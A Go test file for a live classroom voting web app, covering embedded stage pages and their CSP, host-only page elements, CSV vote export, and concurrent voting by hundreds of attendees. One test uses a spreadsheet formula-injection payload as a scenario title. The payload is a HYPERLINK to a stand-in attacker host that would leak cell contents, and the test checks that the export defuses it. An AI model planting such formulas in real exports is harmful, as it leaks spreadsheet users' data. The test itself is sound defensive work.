	if policy := res.Header.Get("Content-Security-Policy"); res.StatusCode != http.StatusOK || !strings.Contains(policy, "frame-ancestors *") || !strings.Contains(body, `data-part="stage"`) {
		t.Errorf("%d %s", res.StatusCode, policy)
	}
	for _, path := range []string{"/embed/room/" + code + "/stage", "/room/" + code + "/stage"} {
		_, body := s.Do(t, "GET", path, nil, "Cookie", "relock-room-"+code+"="+secret)
		embedded := strings.HasPrefix(path, "/embed/")
		for _, only := range []string{"data-leads", "key=" + board.CoHost(secret), `id="co-host"`, `id="people"`, `id="end-now"`, `id="locked"`} { // hosts' alone
			if strings.Contains(body, only) == embedded {
				t.Errorf("%s for a host's cookie: %q, want it %v", path, only, !embedded)
			}
		}
		if strings.Contains(body, "socket?lang=en&amp;embedded") != embedded {
			t.Errorf("%s connects to another place", path)
		}
	}
	if res, _ := s.Do(t, "GET", "/room/"+code+"/stage", nil); strings.Contains(res.Header.Get("Content-Security-Policy"), "frame-ancestors *") {
		t.Error("other pages frame a stage that leads")
	}
	if _, body := s.Do(t, "GET", "/room/"+code+"/host", nil, "Cookie", "relock-room-"+code+"="+secret); !strings.Contains(body, "/embed/room/"+code+"/stage") || !strings.Contains(body, "/qr?text=http") {
		t.Error("the host is not told how slides frame the stage")
	}
}

func TestVotesHaveNoFormulas(t *testing.T) {
	s := webtest.Open(t, nil)
	sc := webtest.Parsed(t, webtest.TwoText)
	sc.Title = `=HYPERLINK("http://evil.example/"&A1,"click")`
	text, err := link.Encode(link.Contents{Scenario: sc})
	if err != nil {
		t.Fatal(err)
	}
	code, secret := s.MakeRoom(t, url.Values{"link": {text}})
	host := s.Visit(t, code, "en", nil).Join("host", webtest.Object{"secret": secret})
	voter := s.Visit(t, code, "en", nil).Join("audience", nil)
	host.Must(webtest.Object{"do": "ask", "kind": "predict"})
	voter.Must(webtest.Object{"do": "vote", "option": 0})
	_, votes := s.Do(t, "GET", "/room/"+code+"/votes.csv", nil, "Authorization", "Bearer "+secret)
	if strings.Count(votes, "\n") != 2 || strings.Contains(votes, `"=HYPER`) || !strings.Contains(votes, `"'=HYPER`) {
		t.Errorf("votes: %s", votes)
	}
}

// Of the votes of a large class that come all at once none is lost, and each counts
// for what it says.
func TestNoVoteOfALargeClassIsLost(t *testing.T) {
	voters := 300
	if testing.Short() {
		voters = 100
	}
	s := webtest.Open(t, nil)
	code, secret := s.MakeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.Visit(t, code, "en", nil).Join("host", webtest.Object{"secret": secret})
	all := make([]*webtest.Attendee, voters)
	for n := range all {
		all[n] = s.Visit(t, code, "en", nil).Join("audience", nil)
	}
	host.Must(webtest.Object{"do": "ask", "kind": "own", "text": "Who is in?", "options": []string{"A", "B", "C"}, "right": 1})
	for _, round := range []int{1, 2} {
		want := make([]int, 3)
		for n, one := range all {
			option := (n + round) % 7 % 3
			want[option]++
			one.Id++
			if err := one.Conn.WriteJSON(webtest.Object{"id": one.Id, "do": "vote", "option": option}); err != nil {
				t.Fatal(err)
			}
		}
		for _, one := range all {
			for f := one.Read(); f.Re != one.Id || !f.Done; f = one.Read() {
				if f.Refused != "" {
					t.Fatal(f.Refused)
				}
			}
		}
		host.Must(webtest.Object{"do": "reveal"})
		if q := host.Room.Question; q.Votes != voters || q.Of != voters || !slices.Equal(q.Counts, want) {
			t.Errorf("round %d: %d of %d voted, %v, want %v", round, q.Votes, q.Of, q.Counts, want)
		}
		host.Must(webtest.Object{"do": "again"})
	}
}
